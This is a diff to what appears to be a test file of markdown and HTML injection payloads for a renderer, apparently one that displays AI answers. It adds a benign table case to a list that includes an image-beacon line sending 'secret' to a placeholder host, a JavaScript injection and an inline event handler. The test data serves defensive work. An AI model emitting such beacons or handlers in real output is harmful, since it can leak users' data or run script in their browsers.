@@ -45,6 +45,8 @@ PAYLOADS: list[tuple[str, str, str]] = [
         "top.__ckx='indent'",
     ),
     ("image beacon", "![chart](http://{beacon}/beacon.png?d=secret)", "image from"),
+    # Not a payload: what must still render (and sit where the saved copy puts it).
+    ("table", "| city | <b onmouseover=x>°C</b> |\n|---|--:|\n| Paris | 21 |", "<b onmouseover=x>°C</b>"),
     # Last: its closing fence opens a code block that runs to the end of the answer.
     (
         "fence in a list item",
